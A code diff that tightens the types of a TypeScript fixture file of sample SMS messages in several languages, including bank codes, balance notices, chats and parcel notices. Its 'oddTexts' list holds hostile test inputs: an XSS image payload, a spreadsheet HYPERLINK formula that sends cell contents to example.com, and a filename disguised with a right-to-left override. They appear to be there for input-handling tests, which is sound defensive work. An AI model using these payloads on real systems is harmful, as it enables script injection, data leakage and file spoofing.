@@ -1,9 +1,10 @@
 import type { Language } from '../device/operators.ts'
 
 type ByLanguage<T> = Readonly<Record<Language, T>>
+type Choice<T> = readonly [T, ...T[]]
 
 /** One-time codes, with whom they come from. */
-export const codes: ByLanguage<readonly (readonly [from: string, text: string])[]> = {
+export const codes: ByLanguage<Choice<readonly [from: string, text: string]>> = {
   zh: [
     ['95566', '【北岸银行】您的验证码为{code}，5分钟内有效。如非本人操作，请立即联系客服，切勿将验证码告知他人。'],
     ['106575258192', '【速达】{code}（登录校验码），请勿泄露。'],
@@ -31,7 +32,7 @@ export const codes: ByLanguage<readonly (readonly [from: string, text: string])[
 }
 
 /** What operators tell of themselves about money and data. */
-export const balanceNotices: ByLanguage<readonly string[]> = {
+export const balanceNotices: ByLanguage<Choice<string>> = {
   zh: [
     '【余额提醒】尊敬的客户，您好！截至10月{day}日，您的账户余额为{amount}元，请及时充值，以免影响使用。',
     '尊敬的客户，您本月套餐内流量已使用{amount}GB，剩余流量不足10%。回复“LL”查询详情。',
@@ -115,7 +116,7 @@ export const longTexts: ByLanguage<string> = {
 }
 
 /** What people write to each other. */
-export const chats: readonly string[] = [
+export const chats: Choice<string> = [
   'ok',
   '👍',
   'On my way 🚗💨 10 min',
@@ -130,7 +131,7 @@ export const chats: readonly string[] = [
 ]
 
 /** Parcels on their way, and where to fetch them. */
-export const parcels: ByLanguage<readonly string[]> = {
+export const parcels: ByLanguage<Choice<string>> = {
   zh: ['【速达快递】您的包裹已到达3号柜，取件码{code}，请于10月{day}日前领取。'],
   en: ['Your parcel arrives on day {day} between 9 and 12. PIN at the door: {code}'],
   de: ['Ihr Paket liegt bereit. Abholcode {code}, bis zum {day}.12.'],
@@ -139,7 +140,7 @@ export const parcels: ByLanguage<readonly string[]> = {
 }
 
 /** Texts that are up to something: markup, a formula, a reversed file name, control characters, a blank. */
-export const oddTexts: readonly string[] = [
+export const oddTexts: Choice<string> = [
   '<img src=x onerror="alert(1)"><b>You won!</b>',
   '=HYPERLINK("http://example.com/?"&A1,"Click here")',
   'Invoice \u202Efdp.exe\u202C enclosed',
